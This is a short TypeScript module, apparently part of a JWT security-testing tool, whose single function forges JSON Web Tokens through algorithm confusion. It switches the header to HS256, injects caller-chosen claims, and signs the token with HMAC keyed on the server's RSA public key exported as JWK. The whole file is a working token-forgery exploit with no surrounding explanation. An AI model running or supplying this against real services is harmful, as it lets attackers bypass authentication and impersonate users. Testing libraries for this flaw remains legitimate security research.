// diagnosis: key-as-jwk
// step: sign
import { createHmac, createPublicKey } from 'node:crypto'
import { decodeJson, encodeJson } from '../jwt/json.ts'

export function forgeWithPublicKey(token: string, publicKeyPem: string, changes: Record<string, unknown>): string {
  const [, payload = ''] = token.split('.')
  const input = `${encodeJson({ alg: 'HS256' })}.${encodeJson({ ...decodeJson(payload), ...changes })}`
  const pem = createPublicKey(publicKeyPem).export({ format: 'jwk' })
  return `${input}.${createHmac('sha256', JSON.stringify(pem)).update(input).digest('base64url')}`
}
